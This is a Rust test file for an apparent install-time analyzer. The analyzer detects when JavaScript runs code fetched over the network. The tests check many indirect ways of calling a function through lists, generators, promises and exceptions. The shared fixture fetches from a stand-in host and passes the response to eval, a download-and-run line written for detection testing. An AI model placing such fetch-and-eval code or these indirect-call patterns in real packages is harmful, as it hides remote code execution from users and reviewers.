use crate::flow::testing::{remote_code, script};
use customs_model::Zone;

const GO: &str = "const go = () => fetch('https://a.invalid/b').then(r => r.text()).then(eval);\n";

/// When what comes over the network is run, at the earliest.
fn runs(code: &str) -> Option<Zone> {
    remote_code(script(&format!("{GO}{code}")))
}

#[test]
fn each_of_a_list_is_called_where_the_list_is_gone_through() {
    for call in [
        "[String, go].forEach(f => f())",
        "[String, go].map(f => f())",
        "[String, go].some(f => f())",
        "[String, go].reduce((a, f) => f(a), 0)",
        "const q = []; q.push(go); q.push(String); q.forEach(f => f())",
        "const q = [String, go]; while (q.length) q.shift()()",
        "const q = [String, go]; let f; while ((f = q.pop())) f()",
        "const q = [String, go]; for (let i = 0; i < q.length; i++) q[i]()",
        "[{ run: String }, { run: go }].forEach(t => t.run())",
        "[{ run: String }, { run: go }].map(t => t.run).forEach(f => f())",
        "[['a', String], ['b', go]].forEach(([n, f]) => f())",
        "class A { run() { go() } } [new A, new A].forEach(a => a.run())",
        "const call = f => f(); [String, go].forEach(call)",
        "[String, go].reduce((p, f) => p.then(f), Promise.resolve())",
        "[String, go].reduce((p, f) => p.then(() => f()), Promise.resolve())",
        "function* g() { yield String; yield go } for (const f of g()) f()",
        "function* g() { yield go } g().next().value()",
        "async function* g() { yield String; yield go } (async () => { for await (const f of g()) f() })()",
        "const f = (a, b) => b(); f(...[1, go])",
        "Promise.resolve().then(go.bind(null))",
        "try { throw go } catch (f) { f() }",
        "const { Transform } = require('stream'); class T extends Transform { _transform(c, e, d) { go() } } process.stdin.pipe(new T)",
    ] {
        assert_eq!(runs(call), Some(Zone::Install), "{call}");
    }
}

#[test]
fn what_a_list_holds_and_nobody_goes_through_is_not_called() {
    for call in [
        "[String, go].forEach(f => String(f.name))",
        "const q = [go]; module.exports = () => q.forEach(f => f())",
        "const q = [go]; const other = [String, Number]; other.forEach(f => f())",
        "[{ run: go }, { run: go }].forEach(t => t.other())",
        "function* g() { yield go } const i = g()",
        "try { throw go } catch (f) { f.name }",
        "try { (() => { throw go }) } catch (f) { f() }",
        "class T { _transform() { go() } } new T",
    ] {
        assert!(runs(call) < Some(Zone::Install), "{call}");
    }
}
